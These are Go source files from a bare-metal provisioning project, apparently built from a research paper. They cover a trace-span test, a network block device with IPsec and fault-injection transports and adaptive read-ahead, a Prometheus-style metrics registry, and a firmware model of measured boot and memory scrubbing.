	if _, err := m.CreateEnclave("tenant", ProfileBob); err != nil {
		t.Fatal(err)
	}
	pol := DefaultPoolPolicy()
	pol.Target = 4
	pol.RetryBackoff = 5 * time.Millisecond
	if _, _, err := m.ConfigurePool("tenant", pol); err != nil {
		t.Fatal(err)
	}
	e, err := m.Enclave("tenant")
	if err != nil {
		t.Fatal(err)
	}
	waitWarm(t, e, 4)

	op, err := m.StartAcquire("tenant", "fedora28", 8)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	res, err := op.Wait(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 8 {
		t.Fatalf("allocated %d of 8 (failed: %v)", len(res.Nodes), res.Failed)
	}

	spans, err := m.OperationTrace(op.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(spans) == 0 {
		t.Fatal("empty trace")
	}
	// Creation order puts the root first; it is the only orphan and it
	// closed when the operation did.
	root := spans[0]
	if root.Parent != 0 || root.Name != "acquire tenant" || root.Node != "" {
		t.Fatalf("root span = %+v", root)
	}
	if root.End.IsZero() {
		t.Fatal("root span never ended")
	}
	for _, sp := range spans {
		if sp.Trace != op.ID {
			t.Fatalf("span %d carries trace %q, want %q", sp.Span, sp.Trace, op.ID)
		}
	}

	// Every child is a node×phase measurement hanging directly off the
	// root: no orphans, no deeper nesting, no open ends.
	warmRequote := map[string]bool{}
	coldBoot := map[string]bool{}
	phaseNodes := map[string]map[string]bool{}
	for _, sp := range spans[1:] {
		if sp.Parent != root.Span {
			t.Fatalf("span %q on %s parented under %d, want root %d", sp.Name, sp.Node, sp.Parent, root.Span)
		}
		if sp.Node == "" {
			t.Fatalf("child span %q has no node", sp.Name)
		}
		if sp.End.IsZero() || sp.DurationNS < 0 {
			t.Fatalf("span %q on %s not closed cleanly: %+v", sp.Name, sp.Node, sp)
		}
		if sp.Error != "" {
			t.Fatalf("span %q on %s recorded error %q in an all-success batch", sp.Name, sp.Node, sp.Error)
		}
		if phaseNodes[sp.Name] == nil {
			phaseNodes[sp.Name] = map[string]bool{}
		}
		phaseNodes[sp.Name][sp.Node] = true
		switch sp.Name {
		case PhaseWarmRequote:
			warmRequote[sp.Node] = true
		case PhaseBoot:
			coldBoot[sp.Node] = true
		}
	}

	// The mixed batch shows both pipelines: 4 pool hits re-quoted warm,
	// 4 misses paid the full cold chain — and no node did both.
	if len(warmRequote) != 4 || len(coldBoot) != 4 {
		t.Fatalf("want 4 warm + 4 cold nodes, got %d warm (%v) and %d cold (%v)",
			len(warmRequote), warmRequote, len(coldBoot), coldBoot)
	}
	for n := range warmRequote {
		if coldBoot[n] {
			t.Fatalf("node %s appears on both the warm and cold paths", n)
		}
	}
	for _, phase := range []string{PhaseWarmRequote, PhaseWarmProvision} {
		if got := len(phaseNodes[phase]); got != 4 {
			t.Fatalf("phase %s traced on %d nodes, want 4", phase, got)
		}
	}
	for _, phase := range []string{PhaseAirlock, PhaseBoot, PhaseAttest, PhaseProvision} {
		if got := len(phaseNodes[phase]); got != 4 {
			t.Fatalf("phase %s traced on %d nodes, want 4", phase, got)
		}
	}
}
