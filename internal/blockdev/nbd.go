package blockdev

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"sync"
	"time"

	"bolted/internal/ipsec"
)

// This file implements the iSCSI-like network block device: a Target
// serving a Device over a request/response Transport, and a Client that
// presents the remote device locally with a sequential read-ahead
// window. The paper boots every server from such a device (TGT iSCSI in
// front of Ceph) and finds the read-ahead size (default 128 KiB, tuned
// 8 MiB) decisive for sequential throughput because Ceph serves 4 MiB
// objects (§7.2, Figure 3c).

// Transport moves an opaque request to the target and returns its
// response. Implementations interpose encryption or cost accounting.
type Transport interface {
	RoundTrip(req []byte) ([]byte, error)
}

// Wire protocol.
const (
	opRead  = 1
	opWrite = 2
	opSize  = 3

	respOK  = 0
	respErr = 1
)

// Target serves a Device over the wire protocol.
type Target struct {
	mu  sync.Mutex
	dev Device
}

// NewTarget creates a block target for dev.
func NewTarget(dev Device) *Target { return &Target{dev: dev} }

// Handle processes one request frame and returns the response frame.
func (t *Target) Handle(req []byte) ([]byte, error) {
	if len(req) < 13 {
		return nil, errors.New("blockdev: short request")
	}
	op := req[0]
	start := int64(binary.BigEndian.Uint64(req[1:9]))
	count := int64(binary.BigEndian.Uint32(req[9:13]))
	t.mu.Lock()
	defer t.mu.Unlock()
	switch op {
	case opSize:
		resp := make([]byte, 9)
		resp[0] = respOK
		binary.BigEndian.PutUint64(resp[1:], uint64(t.dev.NumSectors()))
		return resp, nil
	case opRead:
		buf := make([]byte, 1+count*SectorSize)
		if err := t.dev.ReadSectors(buf[1:], start); err != nil {
			return errResp(err), nil
		}
		buf[0] = respOK
		return buf, nil
	case opWrite:
		data := req[13:]
		if int64(len(data)) != count*SectorSize {
			return errResp(errors.New("payload length mismatch")), nil
		}
		if err := t.dev.WriteSectors(data, start); err != nil {
			return errResp(err), nil
		}
		return []byte{respOK}, nil
	default:
		return nil, fmt.Errorf("blockdev: unknown op %d", op)
	}
}

func errResp(err error) []byte {
	return append([]byte{respErr}, err.Error()...)
}

// Loopback is the plain (unencrypted) transport: a direct call into the
// target, modelling the provider's trusted storage network.
type Loopback struct{ Target *Target }

// RoundTrip implements Transport.
func (l Loopback) RoundTrip(req []byte) ([]byte, error) { return l.Target.Handle(req) }

// IPsecTransport wraps another transport in an ESP tunnel, performing
// the real per-packet seal/open work both directions, which is the extra
// CPU a tenant pays to not trust the provider's network between client
// and iSCSI server. Both tunnel endpoints live in-process, so the
// measured cost is the sum of client-side and server-side crypto —
// exactly the work the two hosts perform in aggregate.
type IPsecTransport struct {
	Inner  Transport
	Client *ipsec.Endpoint
	Server *ipsec.Endpoint
	MTU    int
}

// NewIPsecTransport builds an ESP-wrapped transport over inner with a
// fresh tunnel.
func NewIPsecTransport(inner Transport, suite ipsec.Suite, mtu int) (*IPsecTransport, error) {
	c, s, err := ipsec.NewPair(suite, ipsec.NewMasterKey())
	if err != nil {
		return nil, err
	}
	return &IPsecTransport{Inner: inner, Client: c, Server: s, MTU: mtu}, nil
}

// RoundTrip implements Transport: request is sealed client→server,
// opened, handled, and the response sealed server→client.
func (t *IPsecTransport) RoundTrip(req []byte) ([]byte, error) {
	pkts, err := ipsec.SegmentStream(t.Client, req, t.MTU)
	if err != nil {
		return nil, err
	}
	reqPlain, err := ipsec.ReassembleStream(t.Server, pkts)
	if err != nil {
		return nil, err
	}
	resp, err := t.Inner.RoundTrip(reqPlain)
	if err != nil {
		return nil, err
	}
	rpkts, err := ipsec.SegmentStream(t.Server, resp, t.MTU)
	if err != nil {
		return nil, err
	}
	return ipsec.ReassembleStream(t.Client, rpkts)
}

// ContextTransport bounds every round trip on a context: a cancelled
// provisioning batch stops issuing wire requests instead of finishing a
// multi-megabyte setup write nobody is waiting for.
type ContextTransport struct {
	Ctx   context.Context
	Inner Transport
}

// RoundTrip implements Transport.
func (t *ContextTransport) RoundTrip(req []byte) ([]byte, error) {
	if err := t.Ctx.Err(); err != nil {
		return nil, fmt.Errorf("blockdev: %w", err)
	}
	return t.Inner.RoundTrip(req)
}

// FaultTransport injects transport failures for resilience testing: it
// fails every Nth round trip (a dropped iSCSI session, a storage-net
// blip) while passing the rest through.
type FaultTransport struct {
	Inner     Transport
	FailEvery int // every Nth request errors (0 disables injection)

	mu sync.Mutex
	n  int
}

// RoundTrip implements Transport.
func (t *FaultTransport) RoundTrip(req []byte) ([]byte, error) {
	t.mu.Lock()
	t.n++
	fail := t.FailEvery > 0 && t.n%t.FailEvery == 0
	t.mu.Unlock()
	if fail {
		return nil, errors.New("blockdev: injected transport failure")
	}
	return t.Inner.RoundTrip(req)
}

// Client is the initiator-side block device. It implements Device.
type Client struct {
	transport Transport
	sectors   int64

	mu        sync.Mutex
	readAhead int64 // sectors per read-ahead window (0 = no read-ahead)
	raStart   int64 // first sector of cached window
	raData    []byte
	// Stats
	netReads  int64 // wire read requests issued
	netWrites int64

	// Adaptive read-ahead state (§7.2 tuning, automated): the window
	// hill-climbs from DefaultReadAhead toward TunedReadAhead while
	// each doubling still improves observed fill throughput.
	adaptive   bool
	tuned      bool    // converged; window no longer changes
	curTP      float64 // EWMA throughput at the current window size
	prevTP     float64 // settled throughput at the previous window size
	winSamples int     // full-window fills measured at the current size
	now        func() time.Time
}

// DefaultReadAhead is the Linux default read-ahead (128 KiB).
const DefaultReadAhead = 128 << 10

// TunedReadAhead is the paper's tuned value (8 MiB), chosen because the
// Ceph backend serves 4 MiB objects.
const TunedReadAhead = 8 << 20

// AdaptiveReadAhead, passed as NewClient's readAheadBytes, enables
// self-tuning: the client starts at DefaultReadAhead and doubles the
// window while throughput keeps improving, converging to TunedReadAhead
// on high-latency links and staying small when round trips are cheap.
const AdaptiveReadAhead int64 = -1

// Adaptive tuning parameters: a window size must beat the previous one
// by adaptGrowFactor over adaptSamples full-window fills to keep
// growing; otherwise the client steps back down and settles.
const (
	adaptSamples    = 2
	adaptGrowFactor = 1.10
)

// NewClientContext is NewClient with the size-negotiation round trip
// (the "dial") bounded by ctx. The context does NOT outlive the call:
// the returned client serves the node for its whole occupancy,
// long after any provisioning batch context is done.
func NewClientContext(ctx context.Context, transport Transport, readAheadBytes int64) (*Client, error) {
	c, err := NewClient(&ContextTransport{Ctx: ctx, Inner: transport}, readAheadBytes)
	if err != nil {
		return nil, err
	}
	c.transport = transport
	return c, nil
}

// NewClient connects to a target through transport and negotiates the
// device size. readAheadBytes must be a multiple of SectorSize (0
// disables read-ahead) or AdaptiveReadAhead for self-tuning.
func NewClient(transport Transport, readAheadBytes int64) (*Client, error) {
	adaptive := readAheadBytes == AdaptiveReadAhead
	if adaptive {
		readAheadBytes = DefaultReadAhead
	}
	if readAheadBytes < 0 || readAheadBytes%SectorSize != 0 {
		return nil, fmt.Errorf("blockdev: read-ahead %d not a multiple of %d", readAheadBytes, SectorSize)
	}
	req := make([]byte, 13)
	req[0] = opSize
	resp, err := transport.RoundTrip(req)
	if err != nil {
		return nil, fmt.Errorf("blockdev: size negotiation: %w", err)
	}
	if len(resp) != 9 || resp[0] != respOK {
		return nil, errors.New("blockdev: bad size response")
	}
	return &Client{
		transport: transport,
		sectors:   int64(binary.BigEndian.Uint64(resp[1:])),
		readAhead: readAheadBytes / SectorSize,
		adaptive:  adaptive,
		now:       time.Now,
	}, nil
}

// ReadAheadBytes reports the current read-ahead window size in bytes
// (it changes over time in adaptive mode).
func (c *Client) ReadAheadBytes() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.readAhead * SectorSize
}

// NumSectors implements Device.
func (c *Client) NumSectors() int64 { return c.sectors }

// NetReads reports wire-level read round trips (test/diagnostic hook).
func (c *Client) NetReads() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.netReads
}

// NetWrites reports wire-level write round trips.
func (c *Client) NetWrites() int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.netWrites
}

// ReadSectors implements Device, serving from the read-ahead window when
// possible.
func (c *Client) ReadSectors(dst []byte, start int64) error {
	sectors, err := checkRange(c, dst, start)
	if err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	for filled := int64(0); filled < sectors; {
		cur := start + filled
		if c.raData != nil && cur >= c.raStart && cur < c.raStart+int64(len(c.raData))/SectorSize {
			off := (cur - c.raStart) * SectorSize
			n := copy(dst[filled*SectorSize:sectors*SectorSize], c.raData[off:])
			filled += int64(n / SectorSize)
			continue
		}
		if err := c.fillLocked(cur, sectors-filled); err != nil {
			return err
		}
	}
	return nil
}

// fillLocked fetches at least want sectors at sector cur, extending the
// request to the read-ahead window size.
func (c *Client) fillLocked(cur, want int64) error {
	n := want
	if c.readAhead > n {
		n = c.readAhead
	}
	if cur+n > c.sectors {
		n = c.sectors - cur
	}
	req := make([]byte, 13)
	req[0] = opRead
	binary.BigEndian.PutUint64(req[1:9], uint64(cur))
	binary.BigEndian.PutUint32(req[9:13], uint32(n))
	t0 := c.now()
	resp, err := c.transport.RoundTrip(req)
	elapsed := c.now().Sub(t0)
	c.netReads++
	if err != nil {
		return err
	}
	if len(resp) < 1 || resp[0] != respOK {
		return fmt.Errorf("blockdev: remote read failed: %s", string(resp[1:]))
	}
	c.raStart = cur
	c.raData = resp[1:]
	// Only full-window fills are representative samples: partial fills
	// at the device end or oversized explicit reads would skew the
	// throughput estimate.
	if c.adaptive && !c.tuned && n == c.readAhead {
		c.adaptLocked(n*SectorSize, elapsed)
	}
	return nil
}

// adaptLocked records one observed full-window fill and retunes the
// window: keep doubling while throughput improves by adaptGrowFactor,
// otherwise step back down and settle. On a high-latency link the fixed
// round-trip cost dominates small windows, so doubling keeps winning
// until TunedReadAhead; on a cheap link throughput is copy-bound and
// flat, so the window settles immediately.
func (c *Client) adaptLocked(bytes int64, elapsed time.Duration) {
	if elapsed <= 0 {
		elapsed = time.Nanosecond
	}
	tp := float64(bytes) / elapsed.Seconds()
	if c.curTP == 0 {
		c.curTP = tp
	} else {
		c.curTP = (c.curTP + tp) / 2
	}
	c.winSamples++
	if c.winSamples < adaptSamples {
		return
	}
	if c.prevTP == 0 || c.curTP > c.prevTP*adaptGrowFactor {
		if c.readAhead*SectorSize >= TunedReadAhead {
			c.readAhead = TunedReadAhead / SectorSize
			c.tuned = true
			return
		}
		c.prevTP = c.curTP
		c.readAhead *= 2
		c.curTP, c.winSamples = 0, 0
		return
	}
	// The last doubling bought < 10%: it isn't worth the extra memory
	// and latency, go back one step and stop tuning.
	if c.readAhead > DefaultReadAhead/SectorSize {
		c.readAhead /= 2
	}
	c.tuned = true
}

// WriteSectors implements Device. Writes invalidate any overlapping
// read-ahead window.
func (c *Client) WriteSectors(src []byte, start int64) error {
	if len(src) == 0 || len(src)%SectorSize != 0 {
		return fmt.Errorf("blockdev: buffer length %d not a positive multiple of %d", len(src), SectorSize)
	}
	return c.WriteVector([][]byte{src}, start)
}

// WriteVector implements VectorDevice: the scatter-gather list is
// gathered directly into a single wire frame, so a multi-part payload
// (e.g. data plus padding) costs one copy and one round trip instead of
// a staging buffer plus a round trip per part.
func (c *Client) WriteVector(bufs [][]byte, start int64) error {
	total, err := checkVectorRange(c, bufs, start)
	if err != nil {
		return err
	}
	sectors := total / SectorSize
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.raData != nil {
		raEnd := c.raStart + int64(len(c.raData))/SectorSize
		if start < raEnd && start+sectors > c.raStart {
			c.raData = nil
		}
	}
	req := make([]byte, 13+total)
	req[0] = opWrite
	binary.BigEndian.PutUint64(req[1:9], uint64(start))
	binary.BigEndian.PutUint32(req[9:13], uint32(sectors))
	off := 13
	for _, b := range bufs {
		off += copy(req[off:], b)
	}
	resp, err := c.transport.RoundTrip(req)
	c.netWrites++
	if err != nil {
		return err
	}
	if len(resp) < 1 || resp[0] != respOK {
		return fmt.Errorf("blockdev: remote write failed: %s", string(resp[1:]))
	}
	return nil
}

// ReadVector implements VectorDevice: the sector run is served through
// the read-ahead window and scattered straight into the caller's
// buffers, with no contiguous staging allocation.
func (c *Client) ReadVector(bufs [][]byte, start int64) error {
	if _, err := checkVectorRange(c, bufs, start); err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	byteOff := start * SectorSize
	for _, b := range bufs {
		for len(b) > 0 {
			if c.raData != nil && byteOff >= c.raStart*SectorSize &&
				byteOff < c.raStart*SectorSize+int64(len(c.raData)) {
				n := copy(b, c.raData[byteOff-c.raStart*SectorSize:])
				b = b[n:]
				byteOff += int64(n)
				continue
			}
			// Fetch the window containing byteOff, sized to cover the
			// rest of this buffer.
			cur := byteOff / SectorSize
			want := (byteOff%SectorSize + int64(len(b)) + SectorSize - 1) / SectorSize
			if err := c.fillLocked(cur, want); err != nil {
				return err
			}
		}
	}
	return nil
}
