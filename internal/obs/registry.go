// Package obs is Bolted's observability plane: a dependency-free
// metrics registry (atomic counters, gauges, fixed-bucket histograms
// with Prometheus text-format exposition) and a span-based tracer that
// turns lifecycle phases into per-node, per-operation timelines. The
// paper's evaluation (Figures 2-5) was built from hand-instrumented
// phase timings; this package makes the same measurements continuously
// available from a live boltedd instead of a one-off benchmark run.
//
// Every instrument is nil-safe: methods on a nil *Counter, *Gauge,
// *Histogram (or their Vec forms, or a nil *Registry) are no-ops, so an
// uninstrumented deployment pays only a nil check on the hot path and
// call sites never guard on "is metrics enabled".
package obs

import (
	"fmt"
	"io"
	"math"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// DefLatencyBuckets spans the latencies this control plane produces:
// sub-millisecond simulated phases through multi-minute cold batch
// boots (the paper's ~10 min → ~3 min headline range). Seconds.
var DefLatencyBuckets = []float64{
	0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025,
	0.05, 0.1, 0.25, 0.5, 1, 2.5, 5, 10, 30, 60, 300, 600,
}

// DefSizeBuckets covers byte sizes from a WAL frame to a snapshot.
var DefSizeBuckets = []float64{
	256, 1024, 4096, 16384, 65536, 262144, 1048576, 4194304, 16777216,
}

// DefCountBuckets covers small cardinalities: group-commit batch
// sizes, sector runs, queue depths.
var DefCountBuckets = []float64{1, 2, 4, 8, 16, 32, 64, 128, 256, 1024}

// Registry holds named metric families. All methods are safe for
// concurrent use; a nil *Registry hands out nil instruments, whose
// methods are no-ops.
type Registry struct {
	mu       sync.Mutex
	families map[string]*family
}

// family is one named metric with a fixed type, help text and label
// schema, holding one series per distinct label-value tuple.
type family struct {
	name    string
	help    string
	typ     string // "counter", "gauge", "histogram"
	labels  []string
	buckets []float64 // histograms only

	mu     sync.Mutex
	series map[string]any // joined label values -> *Counter/*Gauge/*Histogram
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{families: make(map[string]*family)}
}

// lookup finds or creates a family, enforcing that re-registration
// agrees on type, help and label schema. Metric names are compile-time
// constants in this codebase, so a mismatch is a programming error and
// panics rather than silently splitting a family.
func (r *Registry) lookup(name, help, typ string, buckets []float64, labels []string) *family {
	r.mu.Lock()
	defer r.mu.Unlock()
	if f, ok := r.families[name]; ok {
		if f.typ != typ || len(f.labels) != len(labels) {
			panic(fmt.Sprintf("obs: metric %q re-registered as %s%v, was %s%v", name, typ, labels, f.typ, f.labels))
		}
		for i := range labels {
			if f.labels[i] != labels[i] {
				panic(fmt.Sprintf("obs: metric %q re-registered with labels %v, was %v", name, labels, f.labels))
			}
		}
		return f
	}
	f := &family{
		name:    name,
		help:    help,
		typ:     typ,
		labels:  append([]string(nil), labels...),
		buckets: normBuckets(buckets),
		series:  make(map[string]any),
	}
	r.families[name] = f
	return f
}

// normBuckets sorts, dedupes and strips a trailing +Inf (re-added at
// exposition); nil falls back to DefLatencyBuckets.
func normBuckets(b []float64) []float64 {
	if len(b) == 0 {
		b = DefLatencyBuckets
	}
	out := append([]float64(nil), b...)
	sort.Float64s(out)
	dedup := out[:0]
	for i, v := range out {
		if math.IsInf(v, +1) {
			continue
		}
		if i > 0 && v == out[i-1] {
			continue
		}
		dedup = append(dedup, v)
	}
	return dedup
}

// seriesKey joins label values with an unprintable separator so
// distinct tuples never collide.
func seriesKey(values []string) string { return strings.Join(values, "\x1f") }

func (f *family) instrument(values []string) any {
	if len(values) != len(f.labels) {
		panic(fmt.Sprintf("obs: metric %q wants %d label values, got %d", f.name, len(f.labels), len(values)))
	}
	key := seriesKey(values)
	f.mu.Lock()
	defer f.mu.Unlock()
	if inst, ok := f.series[key]; ok {
		return inst
	}
	var inst any
	switch f.typ {
	case "counter":
		inst = &Counter{labels: append([]string(nil), values...)}
	case "gauge":
		inst = &Gauge{labels: append([]string(nil), values...)}
	default:
		inst = newHistogram(f.buckets, values)
	}
	f.series[key] = inst
	return inst
}

// --- counter ---

// Counter is a monotonically increasing value. A nil Counter is a
// no-op.
type Counter struct {
	bits   atomic.Uint64 // float64 bits
	labels []string
}

// Inc adds 1.
func (c *Counter) Inc() { c.Add(1) }

// Add adds v (negative deltas are dropped; counters only go up).
func (c *Counter) Add(v float64) {
	if c == nil || v < 0 {
		return
	}
	for {
		old := c.bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if c.bits.CompareAndSwap(old, next) {
			return
		}
	}
}

// Value returns the current count.
func (c *Counter) Value() float64 {
	if c == nil {
		return 0
	}
	return math.Float64frombits(c.bits.Load())
}

// CounterVec is a counter family partitioned by labels.
type CounterVec struct{ f *family }

// Counter registers (or fetches) an unlabeled counter.
func (r *Registry) Counter(name, help string) *Counter {
	return r.CounterVec(name, help).With()
}

// CounterVec registers (or fetches) a labeled counter family.
func (r *Registry) CounterVec(name, help string, labels ...string) *CounterVec {
	if r == nil {
		return nil
	}
	return &CounterVec{f: r.lookup(name, help, "counter", nil, labels)}
}

// With returns the counter for one label-value tuple.
func (v *CounterVec) With(values ...string) *Counter {
	if v == nil {
		return nil
	}
	return v.f.instrument(values).(*Counter)
}

// --- gauge ---

// Gauge is a value that can go up and down. A nil Gauge is a no-op.
type Gauge struct {
	bits   atomic.Uint64 // float64 bits
	labels []string
}

// Set replaces the value.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.bits.Store(math.Float64bits(v))
}

// Add adjusts the value by v.
func (g *Gauge) Add(v float64) {
	if g == nil {
		return
	}
	for {
		old := g.bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if g.bits.CompareAndSwap(old, next) {
			return
		}
	}
}

// Inc adds 1.
func (g *Gauge) Inc() { g.Add(1) }

// Dec subtracts 1.
func (g *Gauge) Dec() { g.Add(-1) }

// Value returns the current value.
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

// GaugeVec is a gauge family partitioned by labels.
type GaugeVec struct{ f *family }

// Gauge registers (or fetches) an unlabeled gauge.
func (r *Registry) Gauge(name, help string) *Gauge {
	return r.GaugeVec(name, help).With()
}

// GaugeVec registers (or fetches) a labeled gauge family.
func (r *Registry) GaugeVec(name, help string, labels ...string) *GaugeVec {
	if r == nil {
		return nil
	}
	return &GaugeVec{f: r.lookup(name, help, "gauge", nil, labels)}
}

// With returns the gauge for one label-value tuple.
func (v *GaugeVec) With(values ...string) *Gauge {
	if v == nil {
		return nil
	}
	return v.f.instrument(values).(*Gauge)
}

// --- histogram ---

// Histogram counts observations into fixed upper-bound buckets
// (cumulated at exposition) plus a running sum. A nil Histogram is a
// no-op.
type Histogram struct {
	bounds  []float64
	counts  []atomic.Uint64 // len(bounds)+1; last is +Inf
	count   atomic.Uint64
	sumBits atomic.Uint64
	labels  []string
}

func newHistogram(bounds []float64, labels []string) *Histogram {
	return &Histogram{
		bounds: bounds,
		counts: make([]atomic.Uint64, len(bounds)+1),
		labels: append([]string(nil), labels...),
	}
}

// Observe records one sample.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v) // first bound >= v
	h.counts[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sumBits.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if h.sumBits.CompareAndSwap(old, next) {
			return
		}
	}
}

// ObserveSince records the seconds elapsed since t0.
func (h *Histogram) ObserveSince(t0 time.Time) {
	if h == nil {
		return
	}
	h.Observe(time.Since(t0).Seconds())
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the sum of observed values.
func (h *Histogram) Sum() float64 {
	if h == nil {
		return 0
	}
	return math.Float64frombits(h.sumBits.Load())
}

// HistogramVec is a histogram family partitioned by labels.
type HistogramVec struct{ f *family }

// Histogram registers (or fetches) an unlabeled histogram. Nil buckets
// default to DefLatencyBuckets.
func (r *Registry) Histogram(name, help string, buckets []float64) *Histogram {
	return r.HistogramVec(name, help, buckets).With()
}

// HistogramVec registers (or fetches) a labeled histogram family.
func (r *Registry) HistogramVec(name, help string, buckets []float64, labels ...string) *HistogramVec {
	if r == nil {
		return nil
	}
	return &HistogramVec{f: r.lookup(name, help, "histogram", buckets, labels)}
}

// With returns the histogram for one label-value tuple.
func (v *HistogramVec) With(values ...string) *Histogram {
	if v == nil {
		return nil
	}
	return v.f.instrument(values).(*Histogram)
}

// --- exposition ---

// escapeHelp escapes a HELP string per the Prometheus text format.
func escapeHelp(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// escapeLabel escapes a label value per the Prometheus text format.
func escapeLabel(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, "\n", `\n`)
	return strings.ReplaceAll(s, `"`, `\"`)
}

func formatFloat(v float64) string {
	switch {
	case math.IsInf(v, +1):
		return "+Inf"
	case math.IsInf(v, -1):
		return "-Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// labelString renders {k="v",...}; extra appends one more pair (le for
// histogram buckets). Empty input renders nothing.
func labelString(names, values []string, extraName, extraValue string) string {
	if len(names) == 0 && extraName == "" {
		return ""
	}
	var b strings.Builder
	b.WriteByte('{')
	for i, n := range names {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(n)
		b.WriteString(`="`)
		b.WriteString(escapeLabel(values[i]))
		b.WriteByte('"')
	}
	if extraName != "" {
		if len(names) > 0 {
			b.WriteByte(',')
		}
		b.WriteString(extraName)
		b.WriteString(`="`)
		b.WriteString(extraValue)
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

// WriteProm writes the registry in the Prometheus text exposition
// format: families sorted by name, series sorted by label values,
// histograms as cumulative _bucket/_sum/_count triples.
func (r *Registry) WriteProm(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	names := make([]string, 0, len(r.families))
	fams := make(map[string]*family, len(r.families))
	for n, f := range r.families {
		names = append(names, n)
		fams[n] = f
	}
	r.mu.Unlock()
	sort.Strings(names)

	var b strings.Builder
	for _, name := range names {
		f := fams[name]
		f.mu.Lock()
		keys := make([]string, 0, len(f.series))
		for k := range f.series {
			keys = append(keys, k)
		}
		series := make(map[string]any, len(f.series))
		for k, v := range f.series {
			series[k] = v
		}
		f.mu.Unlock()
		if len(keys) == 0 {
			continue
		}
		sort.Strings(keys)

		if f.help != "" {
			fmt.Fprintf(&b, "# HELP %s %s\n", f.name, escapeHelp(f.help))
		}
		fmt.Fprintf(&b, "# TYPE %s %s\n", f.name, f.typ)
		for _, k := range keys {
			switch inst := series[k].(type) {
			case *Counter:
				fmt.Fprintf(&b, "%s%s %s\n", f.name, labelString(f.labels, inst.labels, "", ""), formatFloat(inst.Value()))
			case *Gauge:
				fmt.Fprintf(&b, "%s%s %s\n", f.name, labelString(f.labels, inst.labels, "", ""), formatFloat(inst.Value()))
			case *Histogram:
				var cum uint64
				for i, bound := range inst.bounds {
					cum += inst.counts[i].Load()
					fmt.Fprintf(&b, "%s_bucket%s %d\n", f.name, labelString(f.labels, inst.labels, "le", formatFloat(bound)), cum)
				}
				cum += inst.counts[len(inst.bounds)].Load()
				fmt.Fprintf(&b, "%s_bucket%s %d\n", f.name, labelString(f.labels, inst.labels, "le", "+Inf"), cum)
				fmt.Fprintf(&b, "%s_sum%s %s\n", f.name, labelString(f.labels, inst.labels, "", ""), formatFloat(inst.Sum()))
				fmt.Fprintf(&b, "%s_count%s %d\n", f.name, labelString(f.labels, inst.labels, "", ""), cum)
			}
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// Handler serves the registry at GET /metrics in the text exposition
// format. A nil registry serves an empty (valid) page.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WriteProm(w)
	})
}
