// Package firmware models bare-metal servers and their boot firmware:
// the vendor UEFI baseline and Bolted's LinuxBoot replacement (§5). It
// captures the properties the paper's security argument depends on:
//
//   - Measured boot: every stage hashes the next stage into a TPM PCR
//     before executing it, so a quote over the boot PCRs proves exactly
//     what ran.
//   - Deterministic build: a LinuxBoot image hash is a pure function of
//     its source, so a tenant can compile the source themselves and
//     compare hashes instead of trusting the provider.
//   - Memory scrub: LinuxBoot zeroes DRAM on entry, so an attested
//     LinuxBoot guarantees the previous tenant's secrets are gone and
//     the next tenant cannot read this tenant's (§6 "after occupancy").
//   - POST time: LinuxBoot POSTs ~3x faster than UEFI (40 s vs ~4 min on
//     the paper's R630s), the surprising performance win of Figure 4.
package firmware

import (
	"errors"
	"fmt"
	"sync"

	"bolted/internal/tpm"
)

// PCR allocation (TCG PC Client conventions, simplified).
const (
	PCRPlatform   = 0 // PEI/ACM and system firmware
	PCRBootloader = 4 // iPXE and any downloaded runtime
	PCRKernel     = 8 // kexec'd tenant kernel + initrd
)

// Memory models a server's DRAM as tagged regions, enough to test
// whether secrets survive occupancy transitions.
type Memory struct {
	mu      sync.Mutex
	regions map[string][]byte
}

// NewMemory returns empty DRAM.
func NewMemory() *Memory { return &Memory{regions: make(map[string][]byte)} }

// Store places data in memory under a tag.
func (m *Memory) Store(tag string, data []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.regions[tag] = append([]byte(nil), data...)
}

// Load reads a tagged region; ok is false if absent (or scrubbed).
func (m *Memory) Load(tag string) ([]byte, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	d, ok := m.regions[tag]
	return d, ok
}

// Scrub zeroes all of DRAM.
func (m *Memory) Scrub() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.regions = make(map[string][]byte)
}

// Resident returns the number of live regions (test hook).
func (m *Memory) Resident() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.regions)
}

